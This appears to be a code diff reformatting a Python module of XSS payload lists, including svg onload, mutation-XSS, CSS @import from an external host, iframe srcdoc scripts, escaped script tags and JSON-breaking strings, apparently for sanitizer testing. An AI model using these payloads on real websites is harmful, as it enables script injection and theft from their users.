@@ -39,10 +39,7 @@ _ADDRESSES = [
     f"<meta http-equiv=refresh content='0;url={HOST}'>",
     f"data:image/svg+xml,<svg onload={RUN}>",
 ]
-_STYLES = [
-    f"<style>@import '{HOST}.css'; body{{display:none}}</style>",
-    f"<p style='background:url({HOST})'>x</p>",
-]
+_STYLES = [f"<style>@import '{HOST}.css'; body{{display:none}}</style>", f"<p style='background:url({HOST})'>x</p>"]
 _FOREIGN = [
     f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
     f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject></svg>",
@@ -54,10 +51,7 @@ _MUTATIONS = [
     f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
     f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
 ]
-_ENTITIES = [
-    f"&lt;script&gt;{RUN}&lt;/script&gt;",
-    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
-]
+_ENTITIES = [f"&lt;script&gt;{RUN}&lt;/script&gt;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e"]
 _SIGNS = [
     f"\u2028{RUN}\u2029//",
     f'","{MARK}":1,"x":"',
